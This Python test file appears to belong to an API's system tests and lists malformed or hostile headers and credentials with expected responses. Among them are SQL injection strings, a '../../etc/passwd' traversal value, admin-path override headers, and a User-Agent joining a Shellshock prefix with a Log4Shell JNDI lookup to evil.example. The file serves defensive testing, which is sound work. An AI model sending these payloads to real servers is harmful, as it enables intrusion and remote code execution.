"""Headers and credentials that are invalid, repeated, huge, or have a meaning for other servers."""

import hashlib

from tests.system.hostile.requests import SECRET, USERNAME, basic, sending

CONTENT_TYPES = {
    "missing": ((), 415),
    "empty": (("",), 415),
    "text": (("text/plain",), 415),
    "text that is JSON": (("text/json",), 415),
    "XML": (("application/xml",), 415),
    "a form": (("application/x-www-form-urlencoded",), 415),
    "a multipart form": (("multipart/form-data; boundary=x",), 415),
    "a multipart form without a boundary": (("multipart/form-data",), 415),
    "any type": (("*/*",), 415),
    "JSON with padding": (("application/jsonp",), 415),
    "a JSON merge patch": (("application/merge-patch+json",), 415),
    "JSON or text": (("application/json, text/plain",), 415),
    "JSON in quotes": (('"application/json"',), 415),
    "60,000 characters": (("application/" + "j" * 60_000,), 415),
    "upper case": (("APPLICATION/JSON",), None),
    "another character set than the body's": (("application/json; charset=utf-16",), None),
    "a character set that does not exist": (("application/json; charset=nothing",), None),
    "a parameter without a value": (("application/json;charset",), None),
    "1,000 parameters": (("application/json" + "; a=b" * 1_000,), None),
}
KEYS = {
    "empty": (("",), 887),
    "empty quotes": (('""',), 887),
    "an opening quote only": (('"a',), 887),
    "single quotes": (("'a'",), 887),
    "256 characters": (("k" * 256,), 887),
    "300 characters in quotes": (('"' + "k" * 300 + '"',), 887),
    "60,000 characters": (("k" * 60_000,), 887),
    "a space": (("a b",), 887),
    "a tab": (("a\tb",), 887),
    "a comma": (("a,b",), 887),
    "a semicolon": (("a;b",), 887),
    "a percent escape": (("%00",), 887),
    "an SQL condition": (("' OR 1=1 --",), 887),
    "a letter with an accent": (("\xc3\xa9",), 887),
    "a byte that is not UTF-8": (("\xff",), 887),
    "two keys": (("a", "b"), 887),
    "the same key twice": (("a", "a"), 887),
    "an empty key and a valid one": (("", "a"), 887),
    "255 characters": (("k" * 255,), None),
    "255 characters in quotes": (('"' + "k" * 255 + '"',), None),
}
VALID = basic(f"{USERNAME}:{SECRET}".encode())
UNAUTHORIZED = {
    "missing": (),
    "an empty header": ("",),
    "a scheme only": ("Basic",),
    "a scheme and a space": ("Basic ",),
    "no scheme": (VALID.removeprefix("Basic "),),
    "characters that are not base64": ("Basic !!!!",),
    "base64 without its end": (VALID[:-3],),
    "base64 with a letter at the end": (f"{VALID}x",),
    "base64 with a space in it": (f"{VALID[:20]} {VALID[20:]}",),
    "base64 of nothing": (basic(b""),),
    "no colon": (basic(b"till.1"),),
    "a colon only": (basic(b":"),),
    "no secret": (basic(b"till.1:"),),
    "no username": (basic(f":{SECRET}".encode()),),
    "bytes that are not UTF-8": (basic(b"\xff\xfe:\xff"),),
    "UTF-16": (basic(f"{USERNAME}:{SECRET}".encode("utf-16")),),
    "a NUL in the username": (basic(f"{USERNAME}\0:{SECRET}".encode()),),
    "a NUL in the secret": (basic(f"{USERNAME}:{SECRET}\0".encode()),),
    "a wrong secret": (basic(b"till.1:wrong"),),
    "a secret with a space at the end": (basic(f"{USERNAME}:{SECRET} ".encode()),),
    "a secret in upper case": (basic(f"{USERNAME}:{SECRET.upper()}".encode()),),
    "a secret's MD5 in upper case": (basic(f"{USERNAME}:{hashlib.md5(SECRET.encode()).hexdigest().upper()}".encode()),),
    "a username in upper case": (basic(f"{USERNAME.upper()}:{SECRET}".encode()),),
    "a username with a zero-width character": (basic(f"till\u200b.1:{SECRET}".encode()),),
    "a username with an SQL condition": (basic(b"' OR '1'='1:x"),),
    "a username of 45,000 characters": (basic(b"t" * 45_000 + b":x"),),
    "a secret of 45,000 characters": (basic(b"till.1:" + b"s" * 45_000),),
    "45,000 colons": (basic(b":" * 45_000),),
    "another scheme": ("Bearer " + SECRET,),
    "a digest": ('Digest username="till.1", response="0"',),
    "a scheme that begins with the correct one": (VALID.replace("Basic", "Basics"),),
    "the correct header twice": (VALID, VALID),
    "a wrong header before the correct one": (basic(b"till.1:wrong"), VALID),
    "a wrong header after the correct one": (VALID, "Bearer x"),
}
AUTHORIZED = {
    "a scheme in lower case": VALID.replace("Basic", "basic"),
    "two spaces after the scheme": VALID.replace(" ", "  "),
    "a secret's MD5": basic(f"{USERNAME}:{hashlib.md5(SECRET.encode()).hexdigest()}".encode()),
}
IGNORED = {
    "another method": ("X-HTTP-Method-Override", "DELETE"),
    "another address": ("X-Original-URL", "/admin/"),
    "another address, rewritten": ("X-Rewrite-URL", "/admin/"),
    "another host": ("X-Forwarded-Host", "evil.example"),
    "another scheme": ("X-Forwarded-Proto", "gopher"),
    "another address of the client": ("X-Forwarded-For", "127.0.0.1, ::1, ' OR 1=1"),
    "another script": ("Script-Name", "/admin"),
    "a proxy to call through": ("Proxy", "http://evil.example"),
    "credentials for a proxy": ("Proxy-Authorization", "Basic eDp5"),
    "an org": ("X-CAP-ORG", "1"),
    "an id of the request": ("X-CAP-REQUEST-ID", "../../etc/passwd"),
    "malformed cookies": ("Cookie", ';;=;=a; sessionid; csrftoken="\\000"; $Version=1'),
    "an answer that is not JSON": ("Accept", "text/html;q=\xff, application/xml"),
    "10,000 types of answers": ("Accept", "a/b," * 10_000),
    "an unknown content coding": ("Accept-Encoding", "zstd;q=9, \x80"),
    "a language that does not exist": ("Accept-Language", "-" * 10_000),
    "a part of the reply": ("Range", "bytes=0-0,-1"),
    "a reply only if it is new": ("If-None-Match", "*"),
    "a reply only if it is old": ("If-Unmodified-Since", "yesterday"),
    "code to run on the server": ("User-Agent", "() { :; }; echo ${jndi:ldap://evil.example}"),
    "100,000 characters": ("X-Note", "n" * 100_000),
}

HEADERS = [
    *(
        sending(f"Content-Type: {name}", "Content-Type", *values, status=code or 200, code=code)
        for name, (values, code) in CONTENT_TYPES.items()
    ),
    *(
        sending(f"Idempotency-Key: {name}", "Idempotency-Key", *values, status=400 if code else 200, code=code)
        for name, (values, code) in KEYS.items()
    ),
    *(
        sending(f"credentials: {name}", "Authorization", *values, status=401, code=401)
        for name, values in UNAUTHORIZED.items()
    ),
    *(sending(f"credentials: {name}", "Authorization", value) for name, value in AUTHORIZED.items()),
    *(sending(f"ignored header: {name}", header, value) for name, (header, value) in IGNORED.items()),
    sending("50 unknown headers", "X-Note", *("n" * 1_000 for _ in range(50))),
]
